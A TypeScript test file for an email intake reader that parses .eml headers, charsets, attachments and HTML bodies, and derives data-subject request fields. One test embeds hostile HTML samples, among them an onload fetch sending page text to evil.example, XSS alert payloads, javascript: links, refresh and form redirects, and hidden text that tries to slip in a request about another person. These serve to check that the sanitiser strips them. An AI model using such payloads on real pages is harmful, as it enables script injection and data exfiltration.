import { describe, expect, test } from "vitest";
import { readRequest } from "../../../src/domain/intake.ts";
import { decodeEntities } from "../../../src/files/read/html-entities.ts";
import { htmlText } from "../../../src/files/read/html-text.ts";
import { calendarDate } from "../../../src/lib/calendar.ts";
import { read, refusal } from "./reading.ts";

const headers = [
  "Received: from mail.contoso.com ([192.0.2.7])",
  "From: =?utf-8?Q?J=C3=A4ne?= Roe <jane.roe@contoso.com>",
  "To: Support <help@contoso.com>, Team: a@x.example, b@x.example;",
  "Subject: =?utf-8?B?VGVzdCDDqQ==?=",
  "Date: Fri, 20 Nov 2026 10:00:00 +0100",
  "Message-ID: <1@contoso.com>",
];
const mail = (...lines: string[]) => [...headers, ...lines].join("\r\n");

describe("a mail", () => {
  test("gives its headers and its text", async () => {
    const { seen, notes, format } = await read("a.eml", mail("", "Hello, it is Jane Roe.", ""));
    expect(format).toBe("eml");
    expect(seen).toHaveLength(1);
    expect(seen[0]?.position).toBe("mail");
    expect(seen[0]?.fields).toMatchObject({
      From: "Jäne Roe <jane.roe@contoso.com>",
      To: "Support <help@contoso.com>, Team: a@x.example, b@x.example;",
      Subject: "Test é",
      Date: "Fri, 20 Nov 2026 10:00:00 +0100",
      Body: "Hello, it is Jane Roe.",
      "Other headers": "Received: from mail.contoso.com ([192.0.2.7])",
    });
    expect(seen[0]?.hits).toEqual(["Jäne Roe", "jane.roe@contoso.com", "Jane Roe"]);
    expect(notes).toEqual({});
  });

  test("in an old charset is decoded from its bytes", async () => {
    const text = mail("Content-Type: text/plain; charset=iso-8859-1", "", "Gr\u00fc\u00dfe", "");
    const { seen } = await read(
      "a.eml",
      Array.from(text, (char) => char.charCodeAt(0)),
    );
    expect(seen[0]?.fields["Body"]).toBe("Grüße");
  });

  test("written as HTML gives text and links, and nothing of it is run", async () => {
    const html =
      '<style>p{}</style><script>Jane()</script><p>Hi <b>Jane</b>&nbsp;<i>Roe</i></p><a href="mailto:jane.roe@contoso.com">x</a>';
    const { seen } = await read("a.eml", mail("Content-Type: text/html; charset=utf-8", "", html, ""));
    expect(seen[0]?.fields["Body"]).toBe("Hi Jane\u00a0Roe\nx");
    expect(seen[0]?.fields["Links"]).toBe("mailto:jane.roe@contoso.com");
  });

  test("of hostile HTML alone gives the words a person would read, from which intake suggests", async () => {
    const html = [
      "<!doctype html><html><head><title>Mail</title><style>b{background:url(https://evil.example/css)}</style>",
      "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/go'></head>",
      "<body onload='fetch(`https://evil.example/`+document.body.innerText)'>",
      "<img src=x onerror=alert(1)><svg><script>alert(2)</script></svg>",
      "<script>document.write('Please erase nobody: John Doe')</script>",
      "<scr<script>ipt>alert(3)</scr</script>ipt>",
      "<p title='a > b'>Please del&#101;te every&shy;thing you hold about me.</p>",
      "<!-- <p>Give me access to the data of John Doe</p> -->",
      '<form action="https://evil.example/"><input value="typed"></form>',
      "<p>Jane Roe, <a href='javascript:alert(4)'>jane.roe@contoso.com</a></p>",
      "<iframe srcdoc='<p>unseen</p>'></iframe><object data='https://evil.example/o'>",
    ].join("\n");
    const { seen, format } = await read(
      "a.eml",
      mail("Content-Type: text/html; charset=utf-8", "", html, ""),
    );
    const body = seen[0]?.fields["Body"] ?? "";
    expect(format).toBe("eml");
    expect(body.replaceAll("\u00ad", "")).toContain("Please delete everything you hold about me.");
    expect(body).toContain("Jane Roe, jane.roe@contoso.com");
    expect(body).not.toMatch(
      /alert\(2\)|document\.write|John Doe|evil\.example|unseen|<\/?(?:p|img|svg|script)\b/,
    );
    const message = `From: Jane Roe <jane.roe@contoso.com>\n\n${body}`;
    const suggested = readRequest(message, calendarDate("2026-11-23")).map(
      ({ field, value }) => `${field}: ${value}`,
    );
    expect(suggested).toContain("right: erasure");
    expect(suggested).toContain("email: jane.roe@contoso.com");
    expect(suggested).not.toContain("right: access");
    expect(suggested.join()).not.toMatch(/Doe|evil/);
  });

  test("in both forms gives the second only when it says something else", async () => {
    const both = (text: string, html: string) =>
      mail(
        'Content-Type: multipart/alternative; boundary="b"',
        "",
        "--b",
        "Content-Type: text/plain",
        "",
        text,
        "--b",
        "Content-Type: text/html",
        "",
        html,
        "--b--",
        "",
      );
    const same = await read("a.eml", both("Hi Jane", "<p>Hi   Jane</p>"));
    expect(same.seen[0]?.fields["Body as HTML"]).toBeUndefined();
    const other = await read("a.eml", both("Use another program", "<p>Hi Jane</p>"));
    expect(other.seen[0]?.fields["Body as HTML"]).toBe("Hi Jane");
  });

  test("lists attachments, reads those that are text, and notes the others", async () => {
    const text = mail(
      'Content-Type: multipart/mixed; boundary="b"',
      "",
      "--b",
      "",
      "See file.",
      "--b",
      'Content-Type: text/csv; name="list.csv"',
      "Content-Disposition: attachment; filename=list.csv",
      "",
      "id,name\r\n1,Jane Roe",
      "--b",
      "Content-Type: application/pdf",
      "Content-Disposition: attachment; filename=scan.pdf",
      "Content-Transfer-Encoding: base64",
      "",
      "JVBERi0=",
      "--b--",
      "",
    );
    const { seen, notes } = await read("a.eml", text);
    expect(seen[0]?.fields["Attachments"]).toBe(
      "list.csv (text/csv, 19 bytes)\nscan.pdf (application/pdf, 5 bytes)",
    );
    expect(seen[0]?.fields["Attachment list.csv"]).toContain("Jane Roe");
    expect(notes).toEqual({ "attachments-not-read": 1 });
  });

  test("without a body is read all the same, and noted", async () => {
    const { seen, notes } = await read("a.eml", mail("", ""));
    expect(seen[0]?.hits).toContain("jane.roe@contoso.com");
    expect(notes).toEqual({ "mail-without-body": 1 });
  });

  test("that has no header is not a mail", async () => {
    expect(await refusal("a.eml", "Just some text\nand more\n")).toEqual({
      code: "file-not-as-named",
      facts: { named: "eml", kind: "text" },
    });
  });

  test("with parts nested without end is refused with the limit", async () => {
    const nested = Array.from({ length: 60 }, (_, i) => [
      `Content-Type: multipart/mixed; boundary="b${i}"`,
      "",
      `--b${i}`,
    ]);
    expect(await refusal("a.eml", ["A: b", ...nested.flat(), ""].join("\n"))).toMatchObject({
      code: "file-limit",
    });
  });
});

describe("HTML as text", () => {
  test.for([
    ["a<br>b<p>c</p>d", "a\nb\nc\nd"],
    ["<td>a</td><td>b</td>", "a\tb"],
    ["a <!-- no > --> b", "a  b"],
    ["1 < 2 &amp; 3 > 2", "1 < 2 & 3 > 2"],
    ["<img alt='>' src=x>a", "a"],
    ['<a title="<b>">x</a>', "x"],
    ["<script>x</script>a<style>y", "a"],
    ["a<unclosed", "a<unclosed"],
    ["<TITLE>t</TITLE><BODY>b", "t\nb"],
  ])("%j reads %j", ([html, text]) => {
    expect(htmlText(html!).text.replace(/ {2}/g, "  ")).toBe(text);
  });

  test("takes no longer than the text is long", () => {
    const hostile = [
      "<".repeat(200_000),
      "<a ".repeat(100_000),
      "<!--".repeat(50_000),
      "<p>".repeat(100_000),
    ];
    const before = performance.now();
    for (const html of hostile) htmlText(html);
    expect(performance.now() - before).toBeLessThan(2_000);
  });

  test("resolves references by name and number, and leaves what is none", () => {
    expect(decodeEntities("&Eacute;&eacute;&#233;&#xE9;&euro;&nosuch;&#0;&#x110000;&")).toBe(
      "Éééé€&nosuch;\ufffd\ufffd&",
    );
  });
});
